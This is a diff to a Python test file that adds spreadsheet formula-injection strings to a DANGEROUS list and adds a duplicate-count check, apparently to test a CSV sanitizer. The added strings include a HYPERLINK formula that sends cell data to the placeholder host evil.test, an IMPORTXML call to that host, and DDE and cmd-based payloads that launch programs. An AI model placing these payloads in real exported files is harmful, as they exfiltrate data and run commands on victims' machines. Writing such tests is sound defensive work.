@@ -25,8 +25,15 @@ DANGEROUS = [
     "'=1",
     "'",
 ]
+DANGEROUS += ['=HYPERLINK("https://evil.test/?"&A1,"x")']
+DANGEROUS += ['=DDE("cmd";"/C calc";"x")', "@SUM(1+1)*cmd|' /C calc'!A0"]
+DANGEROUS += ['=IMPORTXML("https://evil.test","//a")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=\u202e1+1"]
 DANGEROUS += [" =1", "\u00a0=1", "\u200b=1", "\ufeff=1", "  \u200d@x", "=cmd|' /C calc'!A0", " '=1", "\t", "-", "+1 2"]
 HARMLESS = ["", " ", "Ana", "7/10", "-5", "+5", "-5.25", "12", "0012", "a=b", "O'Neil", "3.NF.A.1", "–"]
+
+
+def test_there_are_enough_of_them_and_none_twice() -> None:
+    assert len(set(DANGEROUS)) == len(DANGEROUS) >= 28
 
 
 @pytest.mark.parametrize("text", DANGEROUS)
